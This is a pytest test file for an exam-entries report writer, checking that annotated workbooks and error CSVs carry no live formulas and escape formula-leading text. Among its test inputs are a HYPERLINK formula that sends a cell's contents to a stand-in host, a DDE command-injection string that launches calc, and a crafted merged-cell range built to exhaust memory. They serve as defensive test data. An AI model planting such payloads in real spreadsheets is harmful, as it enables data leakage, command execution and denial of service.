"""The annotated workbook and errors CSV sent back to a centre (entries.annotate).

Checks docs/hostile-inputs.md "Output security" and E (Reports): errors red and warnings amber on
exactly their cells, no formula anywhere in the xlsx (`=HYPERLINK(...)` names included), CSV text
escaped per OWASP ASVS 1.2.10, names round-tripped unchanged, deterministic and atomic output.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from entries.core.rules import Issue, issue
from entries.intake.headers import TEMPLATE_COLUMNS
from entries.intake.normalise import Intake, take_in
from entries.intake.reader import RawSheet, read_upload
from entries.reports import annotate_sheets, files
from entries.reports.annotate import write_annotated

INTAKE = Path(__file__).resolve().parent / "fixtures" / "intake"
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"y")'
RED, AMBER, GREEN = "FFC7CE", "FFEB9C", "C6EFCE"
# Right of the 16 columns the fixtures have (the template's, before the optional Series column).
STATUS_COL = TEMPLATE_COLUMNS.index("Series") + 1


def _err(code: str, row: int | None, column: str | None, message: str = "msg", fix: str = "fix it") -> Issue:
    return Issue(code=code, severity="error", message=message, fix=f"{fix} ({code})", row=row, column=column)


def _warn(code: str, row: int | None, column: str | None, message: str = "msg", fix: str = "fix it") -> Issue:
    return Issue(code=code, severity="warning", message=message, fix=f"{fix} ({code})", row=row, column=column)


def _read(path: Path) -> tuple[RawSheet, Intake]:
    sheet = read_upload(path)
    return sheet, take_in(sheet)


def _write(
    path: Path, out_dir: Path, issues: list[Issue] | None = None, *, extra: list[Issue] = (), stem: str = "upload"
):
    """Read `path` as the pipeline does and write its annotated copy; issues default to the intake's."""
    sheet, intake = _read(path)
    found = list(intake.issues if issues is None else issues) + list(extra)
    xlsx, errors = write_annotated(
        path,
        out_dir,
        file_format=sheet.file_format,
        sheet_name=sheet.sheet,
        header_row=intake.header_row,
        positions=intake.positions,
        rows=intake.rows,
        issues=found,
        stem=stem,
    )
    return xlsx, errors, sheet, intake


def _fill(cell) -> str | None:
    """The cell's solid fill colour (6 hex digits), or None."""
    if cell.fill is None or cell.fill.fill_type != "solid":
        return None
    return str(cell.fill.fgColor.rgb)[-6:].upper()


def _entries_sheet(wb, sheet: RawSheet):
    return wb[sheet.sheet] if sheet.sheet else wb["Entries"]


def _assert_no_formula(path: Path) -> None:
    """No cell is a formula, as openpyxl reads it or in any sheet's XML."""
    wb = openpyxl.load_workbook(path)  # not data_only: a formula would show as data_type 'f'
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(?:\w+:)?f[ >/]", zf.read(name)), f"<f> element in {name}"


def _csv_file(tmp_path: Path, records: list[dict[str, str]], name: str = "upload.csv") -> Path:
    path = tmp_path / name
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=TEMPLATE_COLUMNS)
        writer.writeheader()
        for record in records:
            writer.writerow(record)
    return path


def _xlsx_file(tmp_path: Path, records: list[dict[str, str]], name: str = "upload.xlsx", extra_sheets=()) -> Path:
    """An entries workbook whose cells are all text cells (a leading '=' kept as text)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Entries"
    for col, column in enumerate(TEMPLATE_COLUMNS, start=1):
        ws.cell(row=1, column=col, value=column)
    for row, record in enumerate(records, start=2):
        for col, column in enumerate(TEMPLATE_COLUMNS, start=1):
            if record.get(column):
                cell = ws.cell(row=row, column=col)
                cell.value = record[column]
                cell.data_type = "s"
    for title in extra_sheets:
        wb.create_sheet(title)
    path = tmp_path / name
    wb.save(path)
    return path


def _record(**values: str) -> dict[str, str]:
    base = {
        "Centre Number": "12345",
        "Candidate Number": "0042",
        "Surname": "Smith",
        "Forenames": "Amy",
        "Sex": "F",
        "Date of Birth": "2009-05-14",
        "Entry Code": "05838",
    }
    base.update({k.replace("_", " "): v for k, v in values.items()})
    return base


def _first_line(cell) -> str | None:
    """The first line of a status cell: `OK`, or the codes (`Error: X; Warning: Y`)."""
    return cell.value.splitlines()[0] if cell.value else cell.value


def _errors_sheet_rows(wb, title: str = "Errors") -> list[tuple]:
    return [tuple(r) for r in wb[title].iter_rows(min_row=2, values_only=True)]


# --- cells in error and warning -------------------------------------------------------------


HAND_MADE = [
    _err("TEST_01", 2, "UCI"),
    _err("TEST_02", 3, "Date of Birth"),
    _warn("TEST_03", 3, "Surname"),
    _warn("TEST_04", 4, "Entry Code"),
    _warn("TEST_05", 4, "Forenames"),  # both on one cell: the error wins the colour
    _err("TEST_06", 4, "Forenames"),
]
EXPECTED_FILLS = {
    (2, "UCI"): RED,
    (3, "Date of Birth"): RED,
    (3, "Surname"): AMBER,
    (4, "Entry Code"): AMBER,
    (4, "Forenames"): RED,
}


@pytest.mark.parametrize("fixture", ["base.xlsx", "base.csv"])
def test_fills_and_comments_on_exactly_the_cells_with_issues(tmp_path: Path, fixture: str):
    xlsx, _, sheet, intake = _write(INTAKE / fixture, tmp_path / "out", HAND_MADE)
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    by_cell: dict[tuple[int, str], list[Issue]] = {}
    for item in HAND_MADE:
        by_cell.setdefault((item.row, item.column), []).append(item)

    for row in intake.rows["row"]:
        for column, position in intake.positions.items():
            cell = ws.cell(row=int(row), column=position + 1)
            expected = EXPECTED_FILLS.get((int(row), column))
            assert _fill(cell) == expected, (row, column)
            if expected is None:
                assert cell.comment is None, (row, column)
                continue
            for item in by_cell[(int(row), column)]:
                assert f"{item.code} ({item.severity}): {item.message}" in cell.comment.text
                assert f"Fix: {item.fix}" in cell.comment.text
    # Red cells get a dark red font, amber ones a dark amber font.
    assert ws.cell(row=2, column=intake.positions["UCI"] + 1).font.color.rgb.endswith("9C0006")
    assert ws.cell(row=3, column=intake.positions["Surname"] + 1).font.color.rgb.endswith("9C5700")
    # The cell values are the centre's own, untouched.
    assert ws.cell(row=3, column=intake.positions["Surname"] + 1).value == "O'Brien"


@pytest.mark.parametrize("fixture", ["base.xlsx", "base.csv"])
def test_status_column(tmp_path: Path, fixture: str):
    xlsx, _, sheet, _ = _write(INTAKE / fixture, tmp_path, HAND_MADE)
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    header = ws.cell(row=1, column=STATUS_COL)
    assert header.value == "Entry status" and header.font.bold
    assert ws.cell(row=1, column=STATUS_COL - 1).value == "Candidate Group"
    statuses = {r: ws.cell(row=r, column=STATUS_COL) for r in (2, 3, 4)}
    # A first line of codes, then each issue in words (errors first) with its fix.
    assert statuses[2].value == "Error: TEST_01\nTEST_01 (UCI): msg Fix: fix it (TEST_01)"
    assert statuses[3].value == (
        "Error: TEST_02; Warning: TEST_03\n"
        "TEST_02 (Date of Birth): msg Fix: fix it (TEST_02)\n"
        "TEST_03 (Surname): msg Fix: fix it (TEST_03)"
    )
    assert _first_line(statuses[4]) == "Error: TEST_06; Warning: TEST_04, TEST_05"
    assert statuses[4].value.splitlines()[1].startswith("TEST_06 (Forenames): ")
    assert {r: _fill(c) for r, c in statuses.items()} == {2: RED, 3: RED, 4: RED}
    assert all(c.alignment.wrap_text for c in statuses.values())
    assert ws.max_column == STATUS_COL


def test_status_ok_and_warning(tmp_path: Path):
    xlsx, _, sheet, _ = _write(INTAKE / "base.xlsx", tmp_path, [_warn("TEST_09", 3, "Sex")])
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    values = [
        (_first_line(ws.cell(row=r, column=STATUS_COL)), _fill(ws.cell(row=r, column=STATUS_COL))) for r in (2, 3, 4)
    ]
    assert values == [("OK", GREEN), ("Warning: TEST_09", AMBER), ("OK", GREEN)]


def test_row_issues_without_a_template_column_go_on_the_status_cell(tmp_path: Path):
    found = [
        _err("TEST_10", 3, None, message="whole row"),
        _warn("TEST_11", 4, "Not A Column", message="stray column"),
        _err("TEST_12", None, None, message="whole file"),
    ]
    xlsx, _, sheet, intake = _write(INTAKE / "base.xlsx", tmp_path, found)
    wb = openpyxl.load_workbook(xlsx)
    ws = _entries_sheet(wb, sheet)
    row3, row4 = ws.cell(row=3, column=STATUS_COL), ws.cell(row=4, column=STATUS_COL)
    assert row3.value == "Error: TEST_10\nTEST_10: whole row Fix: fix it (TEST_10)" and _fill(row3) == RED
    assert "TEST_10 (error): whole row" in row3.comment.text and "Fix: fix it (TEST_10)" in row3.comment.text
    assert _first_line(row4) == "Warning: TEST_11" and _fill(row4) == AMBER
    assert "TEST_11 (Not A Column): stray column Fix: fix it (TEST_11)" in row4.value
    assert "TEST_11 (warning): stray column" in row4.comment.text
    # No data cell is marked, and the file-level issue is only in the Errors sheet.
    for row in (2, 3, 4):
        for position in intake.positions.values():
            cell = ws.cell(row=row, column=position + 1)
            assert _fill(cell) is None and cell.comment is None
    comments = [c.comment.text for r in ws.iter_rows() for c in r if c.comment]
    assert not any("TEST_12" in text for text in comments)
    assert "TEST_12" in [r[2] for r in _errors_sheet_rows(wb)]


def test_excel_error_cells_from_the_intake(tmp_path: Path):
    xlsx, _, sheet, _ = _write(INTAKE / "error_cells.xlsx", tmp_path)
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    assert _fill(ws["C2"]) == RED and "CELL_01 (error)" in ws["C2"].comment.text
    assert _fill(ws["H3"]) == RED and "CELL_01 (error)" in ws["H3"].comment.text
    assert ws["C2"].value == "#REF!"
    marked = {c.coordinate for r in ws.iter_rows(max_col=STATUS_COL - 1) for c in r if _fill(c) or c.comment}
    assert marked == {"C2", "H3"}
    # The file is rejected: the row without a problem is not "OK", its status stays empty.
    assert [_first_line(ws.cell(row=r, column=STATUS_COL)) for r in (2, 3, 4)] == [
        "Error: CELL_01",
        "Error: CELL_01",
        None,
    ]


def test_help_line_warning_is_on_its_status_cell(tmp_path: Path):
    xlsx, _, sheet, _ = _write(INTAKE / "help_line_left_in.xlsx", tmp_path)
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    help_status = ws.cell(row=2, column=STATUS_COL)
    assert _first_line(help_status) == "Warning: HELP_01" and _fill(help_status) == AMBER
    assert "HELP_01 (warning)" in help_status.comment.text
    assert [ws.cell(row=r, column=STATUS_COL).value for r in (3, 4, 5)] == ["OK", "OK", "OK"]


def test_merged_cells_are_marked_on_the_range_anchor(tmp_path: Path):
    xlsx, _, sheet, _ = _write(INTAKE / "merged_cells.xlsx", tmp_path)
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    anchor = ws["P2"]
    assert _fill(anchor) == RED
    for row in (2, 3, 4):
        assert f"Row {row}: CELL_03 (error)" in anchor.comment.text
        assert _first_line(ws.cell(row=row, column=STATUS_COL)) == "Error: CELL_03"


def test_header_issue_on_the_header_keeps_its_text(tmp_path: Path):
    found = [issue("HDR_02", row=1, column="Q", letter="Q")]
    xlsx, _, sheet, _ = _write(INTAKE / "base.xlsx", tmp_path, found)
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    header = ws.cell(row=1, column=STATUS_COL)
    assert header.value == "Entry status"
    assert "HDR_02" in header.comment.text
    assert [ws.cell(row=r, column=STATUS_COL).value for r in (2, 3, 4)] == ["OK", "OK", "OK"]


def test_status_goes_right_of_the_last_used_column(tmp_path: Path):
    path = _xlsx_file(tmp_path, [_record(), _record(Candidate_Number="0043")])
    wb = openpyxl.load_workbook(path)
    wb.active.cell(row=1, column=18, value="Notes")  # a centre's own column, after a gap
    wb.active.cell(row=3, column=18, value="late fee paid")
    wb.save(path)
    xlsx, _, sheet, _ = _write(path, tmp_path / "out", [])
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    assert ws.cell(row=1, column=19).value == "Entry status"
    assert ws.cell(row=3, column=18).value == "late fee paid"
    assert [ws.cell(row=r, column=19).value for r in (2, 3)] == ["OK", "OK"]


# --- no formula anywhere ----------------------------------------------------------------------


def test_no_formula_from_a_csv_name(tmp_path: Path):
    path = _csv_file(tmp_path, [_record(Surname=HYPERLINK), _record(Candidate_Number="0043")])
    found = [_err("TEST_01", 2, "Surname", message="=1+1 is not a name", fix="@SUM(A1)")]
    xlsx, errors, sheet, _ = _write(path, tmp_path / "out", found)
    _assert_no_formula(xlsx)
    wb = openpyxl.load_workbook(xlsx)
    ws = wb["Entries"]
    assert [c.value for c in ws[1]][: len(TEMPLATE_COLUMNS)] == list(TEMPLATE_COLUMNS)
    surname = ws.cell(row=2, column=TEMPLATE_COLUMNS.index("Surname") + 1)
    assert surname.value == HYPERLINK and surname.data_type == "s"
    assert _fill(surname) == RED
    assert _errors_sheet_rows(wb)[0][4] == "=1+1 is not a name"
    text = errors.read_text(encoding="utf-8-sig")
    assert "'=1+1 is not a name" in text and "'@SUM(A1)" in text


def test_no_formula_from_an_xlsx_text_cell_or_a_real_formula(tmp_path: Path):
    path = _xlsx_file(tmp_path, [_record(Surname=HYPERLINK), _record(Candidate_Number="0043")])
    wb = openpyxl.load_workbook(path)
    notes = wb.create_sheet("Notes")
    notes["A1"] = "=SUM(1,2)"  # a live formula on another sheet
    notes["A2"] = "=1+1"
    notes["A2"].data_type = "s"  # and text that looks like one
    wb.save(path)
    with zipfile.ZipFile(path) as zf:  # the upload really has a formula to remove
        assert any(b"<f>" in zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    xlsx, _, sheet, _ = _write(path, tmp_path / "out", [_warn("TEST_01", 2, "Surname")])
    _assert_no_formula(xlsx)
    out = openpyxl.load_workbook(xlsx)
    assert out["Entries"]["E2"].value == HYPERLINK and out["Entries"]["E2"].data_type == "s"
    assert out["Notes"]["A2"].value == "=1+1" and out["Notes"]["A2"].data_type == "s"


@pytest.mark.parametrize("fixture", ["uncached_formula.xlsx", "error_cells.xlsx", "base.xlsx", "base.csv"])
def test_no_formula_in_fixture_outputs(tmp_path: Path, fixture: str):
    xlsx, _, _, _ = _write(INTAKE / fixture, tmp_path)
    _assert_no_formula(xlsx)


def test_uncached_formula_cell_is_marked(tmp_path: Path):
    xlsx, _, sheet, _ = _write(INTAKE / "uncached_formula.xlsx", tmp_path)
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    assert _fill(ws["E2"]) == RED and "CELL_02 (error)" in ws["E2"].comment.text


# --- the errors CSV ---------------------------------------------------------------------------


DANGEROUS = ["=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "\0x"]


def test_errors_csv_escapes_formula_starts(tmp_path: Path):
    found = [
        Issue(code=f"TEST_{i:02d}", severity="error", message=text, fix=text, row=7, column=text)
        for i, text in enumerate(DANGEROUS)
    ]
    found.append(Issue(code="TEST_99", severity="warning", message='plain, "quoted"', fix="ok", row=None))
    _, errors, _, _ = _write(INTAKE / "base.xlsx", tmp_path, found)
    raw = errors.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so Excel reads UTF-8
    assert raw.count(b"\r\n") >= len(found) + 1
    with errors.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert table[0] == ["Row", "Column", "Code", "Severity", "Message", "Fix"]
    assert table[1] == ["", "", "TEST_99", "warning", 'plain, "quoted"', "ok"]  # no row: first
    for line in table[2:]:
        assert line[0] == "7"  # the row stays a plain number
        text = DANGEROUS[int(line[2][-2:])]
        assert line[1] == line[4] == line[5] == "'" + text


def test_errors_csv_leaves_safe_text_alone(tmp_path: Path):
    found = [_err("TEST_01", 3, "Surname", message="Zoë's name, with 'quotes' and ünïcode", fix="Fix – it")]
    _, errors, _, _ = _write(INTAKE / "base.csv", tmp_path, found)
    with errors.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert table[1] == [
        "3",
        "Surname",
        "TEST_01",
        "error",
        "Zoë's name, with 'quotes' and ünïcode",
        "Fix – it (TEST_01)",
    ]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(message=st.text(max_size=40), row=st.one_of(st.none(), st.integers(min_value=1, max_value=1_048_576)))
def test_errors_csv_round_trips_any_message(message: str, row: int | None):
    found = [Issue(code="TEST_01", severity="warning", message=message, fix="f", row=row, column="Surname")]
    with tempfile.TemporaryDirectory() as tmp:
        rows = pd.DataFrame(
            {"row": pd.Series([], dtype="int64"), **{c: pd.Series([], dtype="str") for c in TEMPLATE_COLUMNS}}
        )
        _, errors = write_annotated(
            INTAKE / "base.csv",
            Path(tmp),
            file_format="csv",
            sheet_name=None,
            header_row=1,
            positions={},
            rows=rows,
            issues=found,
            stem="p",
        )
        with errors.open(encoding="utf-8-sig", newline="") as fh:
            table = list(csv.reader(fh))
    dangerous = message.startswith(("=", "+", "-", "@", "\t", "\r", "\0"))
    assert table[1][4] == ("'" + message if dangerous else message)
    assert table[1][0] == ("" if row is None else str(row))


# --- names round-trip -------------------------------------------------------------------------


NAMES = ["Zoë", "O'Brien", "Nguyễn", "Ann_x0041_e", "_x005F_x0041_", "+44 Smith", "-Dash", "@handle"]


def _as_excel_shows(text: str) -> str:
    """Text of an inline-string cell as Excel (and calamine) show it: _xHHHH_ decoded.

    openpyxl writes every string inline and reads inline strings back undecoded, so the value it
    reads is the raw XML text; Excel decodes _xHHHH_ there. The writer escapes a literal one as
    _x005F_xHHHH_, which decodes back to exactly the text written.
    """
    return unescape(text)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_names_round_trip_unchanged(tmp_path: Path, kind: str):
    records = [_record(Candidate_Number=f"{i + 1:04d}", Surname=name) for i, name in enumerate(NAMES)]
    make = _csv_file if kind == "csv" else _xlsx_file
    path = make(tmp_path, records)
    xlsx, _, sheet, _ = _write(path, tmp_path / "out", [_err("TEST_01", 2, "Surname")])
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    cells = [ws.cell(row=r, column=5) for r in range(2, 2 + len(NAMES))]
    assert all(c.data_type == "s" for c in cells)
    # Plain names come back from openpyxl exactly; all of them as Excel shows them.
    assert [c.value for c in cells[:3]] == NAMES[:3]
    assert [_as_excel_shows(c.value) for c in cells] == NAMES
    assert [c.value for c in cells[5:]] == NAMES[5:]  # no apostrophe added in the xlsx


def test_x0041_name_reads_back_unchanged_with_calamine(tmp_path: Path):
    fastexcel = pytest.importorskip("fastexcel")
    path = _csv_file(tmp_path, [_record(Candidate_Number=f"{i + 1:04d}", Surname=n) for i, n in enumerate(NAMES)])
    xlsx, _, _, _ = _write(path, tmp_path / "out", [])
    frame = fastexcel.read_excel(xlsx).load_sheet_by_name("Entries", header_row=None, dtypes="string").to_pandas()
    assert frame.iloc[1 : 1 + len(NAMES), 4].tolist() == NAMES


def test_characters_xml_cannot_hold_become_replacement_characters(tmp_path: Path):
    rows = pd.DataFrame({"row": pd.Series([2], dtype="int64"), **{c: [""] for c in TEMPLATE_COLUMNS}})
    rows["Surname"] = ["Bell\x07e"]
    found = [_err("TEST_01", 2, "Surname", message="bad \x0b char", fix="\x00fix")]
    xlsx, errors = write_annotated(
        tmp_path / "none.csv",
        tmp_path,
        file_format="csv",
        sheet_name=None,
        header_row=1,
        positions={},
        rows=rows,
        issues=found,
        stem="u",
    )
    wb = openpyxl.load_workbook(xlsx)
    assert wb["Entries"]["E2"].value == "Bell\ufffde"
    assert "bad \ufffd char" in wb["Entries"]["E2"].comment.text
    assert _errors_sheet_rows(wb)[0][4:] == ("bad \ufffd char", "\ufffdfix (TEST_01)")
    with errors.open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[1][4] == "bad \x0b char"  # the CSV keeps the text, escaped where needed


_NAME_PIECES = st.one_of(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=8),
    st.sampled_from(["_x0041_", "_x005F_", "_x000D_", "_", "x0041_", "x005F_", "=", "\x07", "Zoë", "ễ"]),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=st.lists(_NAME_PIECES, min_size=1, max_size=6).map("".join).filter(bool))
def test_any_csv_name_round_trips_through_the_xlsx(name: str):
    rows = pd.DataFrame({"row": pd.Series([2], dtype="int64"), **{c: [""] for c in TEMPLATE_COLUMNS}})
    rows["Surname"] = [name]
    with tempfile.TemporaryDirectory() as tmp:
        xlsx, _ = write_annotated(
            Path(tmp) / "none.csv",
            Path(tmp),
            file_format="csv",
            sheet_name=None,
            header_row=1,
            positions={},
            rows=rows,
            issues=[],
            stem="u",
        )
        cell = openpyxl.load_workbook(xlsx)["Entries"]["E2"]
        assert cell.data_type == "s"
        expected = re.sub(openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE, "\ufffd", name)
        # XML parsing normalises a carriage return (alone or before \n) to \n.
        assert _as_excel_shows(cell.value) == expected.replace("\r\n", "\n").replace("\r", "\n")


# --- the Errors sheet -------------------------------------------------------------------------


def test_errors_sheet_sorted_bold_frozen_filtered(tmp_path: Path):
    found = [
        _warn("TEST_05", 4, "UCI"),
        _err("TEST_02", 3, "Surname"),
        _err("TEST_01", 3, "Surname"),
        _err("TEST_09", None, None, message="file-level"),
        _warn("TEST_03", 3, "Date of Birth"),
        _err("TEST_04", 2, None),
    ]
    xlsx, errors, _, _ = _write(INTAKE / "base.xlsx", tmp_path, found)
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == ["Entries", "Read me first", "Errors"]  # rejected: the banner follows the entries
    ws = wb["Errors"]
    assert [c.value for c in ws[1]] == ["Row", "Column", "Code", "Severity", "Message", "Fix"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:F7"
    lines = _errors_sheet_rows(wb)
    assert [(r[0], r[1], r[2]) for r in lines] == [
        (None, None, "TEST_09"),
        (2, None, "TEST_04"),
        (3, "Date of Birth", "TEST_03"),
        (3, "Surname", "TEST_01"),
        (3, "Surname", "TEST_02"),
        (4, "UCI", "TEST_05"),
    ]
    assert lines[1][3:] == ("error", "msg", "fix it (TEST_04)")
    assert isinstance(lines[1][0], int)
    with errors.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert [tuple(r[:3]) for r in table[1:]] == [
        ("", "", "TEST_09"),
        ("2", "", "TEST_04"),
        ("3", "Date of Birth", "TEST_03"),
        ("3", "Surname", "TEST_01"),
        ("3", "Surname", "TEST_02"),
        ("4", "UCI", "TEST_05"),
    ]


def test_errors_sheet_renamed_when_the_workbook_has_one(tmp_path: Path):
    path = _xlsx_file(tmp_path, [_record()], extra_sheets=["errors"])
    xlsx, _, _, _ = _write(path, tmp_path / "out", [_err("TEST_01", 2, "Sex")])
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == ["Entries", "Read me first", "errors", "Errors (entries check)"]
    assert _errors_sheet_rows(wb, "Errors (entries check)")[0][2] == "TEST_01"
    assert wb["errors"].max_row == 1 and wb["errors"]["A1"].value is None  # the centre's own sheet untouched


# --- determinism, atomic writes, privacy ----------------------------------------------------


def _all_values(path: Path) -> dict:
    wb = openpyxl.load_workbook(path)
    return {
        ws.title: [
            [(c.value, c.data_type, _fill(c), c.comment.text if c.comment else None) for c in r] for r in ws.iter_rows()
        ]
        for ws in wb.worksheets
    }


@pytest.mark.parametrize("fixture", ["base.xlsx", "base.csv", "merged_cells.xlsx"])
def test_writing_twice_gives_the_same_workbook_and_csv(tmp_path: Path, fixture: str):
    first = _write(INTAKE / fixture, tmp_path / "one", extra=HAND_MADE)
    second = _write(INTAKE / fixture, tmp_path / "two", extra=list(reversed(HAND_MADE)))
    assert _all_values(first[0]) == _all_values(second[0])
    assert first[1].read_bytes() == second[1].read_bytes()
    props = openpyxl.load_workbook(first[0]).properties
    assert props.created == props.modified == dt.datetime(2000, 1, 1)


def test_files_named_by_stem_and_no_temp_files_left(tmp_path: Path):
    out = tmp_path / "new" / "folder"  # created when missing
    xlsx, errors, _, _ = _write(INTAKE / "base.xlsx", out, HAND_MADE, stem="12345_upload")
    assert (xlsx, errors) == (out / "12345_upload.annotated.xlsx", out / "12345_upload.errors.csv")
    assert sorted(p.name for p in out.iterdir()) == ["12345_upload.annotated.xlsx", "12345_upload.errors.csv"]
    # A second write replaces both in place.
    _write(INTAKE / "base.xlsx", out, [], stem="12345_upload")
    assert sorted(p.name for p in out.iterdir()) == ["12345_upload.annotated.xlsx", "12345_upload.errors.csv"]
    with errors.open(encoding="utf-8-sig", newline="") as fh:
        assert len(list(csv.reader(fh))) == 1


def test_failed_csv_write_leaves_no_partial_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    def boom(value):
        raise RuntimeError("disk full")

    monkeypatch.setattr(files, "csv_safe", boom)
    with pytest.raises(RuntimeError):
        _write(INTAKE / "base.xlsx", tmp_path, HAND_MADE)
    assert [p.name for p in tmp_path.iterdir()] == ["upload.annotated.xlsx"]


def test_worksheets_are_written_beside_the_report_not_in_the_systems_temporary_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    # openpyxl's own temporary file for a worksheet goes to the system's temporary folder (with
    # the candidates' cells in it): refused here, so writing fails if it is ever used.
    import openpyxl.worksheet._writer as sheet_writer

    def refused(suffix=""):
        raise AssertionError("a worksheet went to the system's temporary folder")

    monkeypatch.setattr(sheet_writer, "create_temporary_file", refused)
    out = tmp_path / "out"
    xlsx, _, _, _ = _write(INTAKE / "base.xlsx", out, HAND_MADE)
    assert [ws.title for ws in openpyxl.load_workbook(xlsx).worksheets] == ["Entries", "Read me first", "Errors"]
    assert sorted(p.name for p in out.iterdir()) == ["upload.annotated.xlsx", "upload.errors.csv"]  # none left


def test_writes_nothing_to_output_or_logs(
    tmp_path: Path, capfd: pytest.CaptureFixture, caplog: pytest.LogCaptureFixture
):
    sheet, intake = _read(INTAKE / "base.xlsx")
    capfd.readouterr()
    with caplog.at_level("DEBUG"):
        write_annotated(
            INTAKE / "base.xlsx",
            tmp_path,
            file_format="xlsx",
            sheet_name=sheet.sheet,
            header_row=intake.header_row,
            positions=intake.positions,
            rows=intake.rows,
            issues=HAND_MADE,
            stem="quiet",
        )
    captured = capfd.readouterr()
    assert captured.out == "" and captured.err == ""
    assert caplog.records == []


@pytest.mark.parametrize("stem", ["", "..", "a/b", "a\\b", "."])
def test_bad_stem_refused(tmp_path: Path, stem: str):
    sheet, intake = _read(INTAKE / "base.csv")
    with pytest.raises(ValueError):
        write_annotated(
            INTAKE / "base.csv",
            tmp_path,
            file_format="csv",
            sheet_name=None,
            header_row=1,
            positions=intake.positions,
            rows=intake.rows,
            issues=[],
            stem=stem,
        )


def test_unknown_format_and_missing_sheet_refused(tmp_path: Path):
    sheet, intake = _read(INTAKE / "base.xlsx")
    common = dict(header_row=1, positions=intake.positions, rows=intake.rows, issues=[], stem="x")
    with pytest.raises(ValueError):
        write_annotated(INTAKE / "base.xlsx", tmp_path, file_format="pdf", sheet_name=None, **common)
    with pytest.raises(ValueError):
        write_annotated(INTAKE / "base.xlsx", tmp_path, file_format="xlsx", sheet_name="Nope", **common)
    assert list(tmp_path.iterdir()) == []


def test_huge_merged_range_refused_before_loading(tmp_path: Path):
    path = _xlsx_file(tmp_path, [_record()])
    patched = tmp_path / "huge_merge.xlsx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(patched, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                # A few bytes of XML that openpyxl would expand into 17 billion cell objects.
                data = data.replace(
                    b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="Q2:XFD1048576"/></mergeCells>'
                )
            dst.writestr(item, data)
    _, intake = _read(path)
    with pytest.raises(ValueError, match="merged"):
        write_annotated(
            patched,
            tmp_path / "out",
            file_format="xlsx",
            sheet_name="Entries",
            header_row=1,
            positions=intake.positions,
            rows=intake.rows,
            issues=[],
            stem="x",
        )
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


def test_opens_on_the_annotated_sheet(tmp_path: Path):
    xlsx, _, sheet, _ = _write(INTAKE / "hidden_first_sheet.xlsx", tmp_path, [_warn("TEST_01", 2, "Sex")])
    wb = openpyxl.load_workbook(xlsx)
    assert wb.active.title == sheet.sheet
    assert [ws.title for ws in wb.worksheets if ws.sheet_view.tabSelected] == [sheet.sheet]
    ws = wb[sheet.sheet]
    assert _fill(ws.cell(row=2, column=7)) == AMBER


def test_a_rejected_file_opens_on_its_banner(tmp_path: Path):
    xlsx, _, sheet, _ = _write(INTAKE / "hidden_first_sheet.xlsx", tmp_path, [_err("TEST_01", 2, "Sex")])
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == ["Notes", sheet.sheet, "Read me first", "Errors"]
    assert wb.active.title == "Read me first"
    assert [ws.title for ws in wb.worksheets if ws.sheet_view.tabSelected] == ["Read me first"]
    assert _fill(wb[sheet.sheet].cell(row=2, column=7)) == RED


# --- a rejected file explains itself ----------------------------------------------------------


def _values(ws) -> list[str]:
    return [str(c.value) for r in ws.iter_rows() for c in r if c.value is not None]


@pytest.mark.parametrize("fixture", ["base.xlsx", "base.csv"])
def test_a_rejected_file_has_a_banner_and_no_ok(tmp_path: Path, fixture: str):
    found = [_err("TEST_01", 3, "UCI"), _warn("TEST_02", 4, "Sex")]
    xlsx, _, sheet, _ = _write(INTAKE / fixture, tmp_path, found)
    wb = openpyxl.load_workbook(xlsx)
    entries = _entries_sheet(wb, sheet)
    assert wb.active.title == "Read me first"
    assert wb.sheetnames.index("Read me first") == wb.sheetnames.index(entries.title) + 1
    banner = _values(wb["Read me first"])
    assert banner[0] == "Nothing from this file was entered"
